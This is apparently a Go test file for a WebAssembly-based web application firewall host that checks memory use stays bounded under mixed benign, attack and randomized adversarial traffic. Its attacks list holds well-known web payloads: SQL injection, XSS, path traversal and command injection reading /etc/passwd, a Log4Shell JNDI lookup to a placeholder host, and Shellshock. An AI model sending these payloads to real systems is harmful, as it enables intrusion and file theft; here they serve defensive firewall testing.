package wasmhost_test

import (
	"fmt"
	"math/rand/v2"
	"os"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/stretchr/testify/require"

	"tabard/engine"
	"tabard/engine/screen/difftest"
	"tabard/internal/wasmhost"
)

const (
	// requestsVariable says how many requests the test of memory plays, where
	// minRequests are not enough.
	requestsVariable = "TABARD_MEMORY_REQUESTS"
	minRequests      = 6000
	// maxMemoryBytes is what one virtual machine with CRS at paranoia level 1 may
	// take: Envoy has one for each worker.
	maxMemoryBytes = 64 << 20
)

// TestAMachineStaysSmall plays ordinary traffic, attacks and the requests of an
// adversary who makes each unlike all others, so that nothing is ever known.
func TestAMachineStaysSmall(t *testing.T) {
	n := minRequests
	if text := os.Getenv(requestsVariable); text != "" {
		var err error
		n, err = strconv.Atoi(text)
		require.NoError(t, err, requestsVariable)
	}
	h := open(t, "mode: block\n")
	start := h.MemoryBytes()
	r := rand.New(rand.NewPCG(uint64(time.Now().UnixNano()), 0))
	for i := range n {
		_, err := h.Run(t.Context(), mixed(r))
		require.NoError(t, err)
		if (i+1)%(n/6) == 0 {
			t.Logf("%8d requests: %.1f MB", i+1, float64(h.MemoryBytes())/(1<<20))
		}
	}
	t.Logf("at the start: %.1f MB", float64(start)/(1<<20))
	require.LessOrEqual(t, h.MemoryBytes(), maxMemoryBytes)
}

// mixed is half ordinary traffic, a quarter attacks, a quarter adversary.
func mixed(r *rand.Rand) wasmhost.Exchange {
	switch r.IntN(4) {
	case 0:
		return get("/items?q=" + attacks[r.IntN(len(attacks))] + strconv.Itoa(r.IntN(1000)))
	case 1:
		return adversary(r)
	}
	c := difftest.Benign(r)
	x := wasmhost.Exchange{Conn: engine.Conn{Peer: c.Peer}, Body: []byte(c.Body)}
	x.Request = engine.Request{Method: string(c.Method), Target: string(c.Target), Protocol: string(c.Protocol), Scheme: "https", Authority: "shop.example"}
	for _, f := range c.Headers {
		x.Request.Headers = append(x.Request.Headers, [2]string{string(f[0]), string(f[1])})
	}
	return x
}

var attacks = []string{
	"1%27%20OR%20%271%27=%271", "%3Cscript%3Ealert(1)%3C/script%3E", "../../../../etc/passwd", ";cat%20/etc/passwd;",
	"${jndi:ldap://x.example/a}", "php://filter/convert", "%7B%7B7*7%7D%7D", "() { :;}; /bin/id", "union select 1,2,3 from users",
}

// adversary sends names and values that come once, and all that the fast path
// keeps by: names of headers, media types, extensions, parts of regular
// expressions.
func adversary(r *rand.Rand) wasmhost.Exchange {
	word := func() string { return fmt.Sprintf("%x", r.Uint64()) }
	body := fmt.Sprintf(`{"%s":"%s select %s","%s":[%d,"<%s","../%s"]}`, word(), word(), word(), word(), r.IntN(1e6), word(), word())
	x := post("application/json", body)
	x.Request.Target = "/" + word() + "/a." + word()[:4] + "?" + word() + "=" + strings.Repeat(word(), 1+r.IntN(8))
	x.Request.Headers = append(x.Request.Headers, [2]string{"x-" + word(), word() + "; --" + word()}, [2]string{"cookie", word() + "=" + word()},
		[2]string{"accept", "application/" + word()}, [2]string{"user-agent", "curl/" + word()})
	return x
}
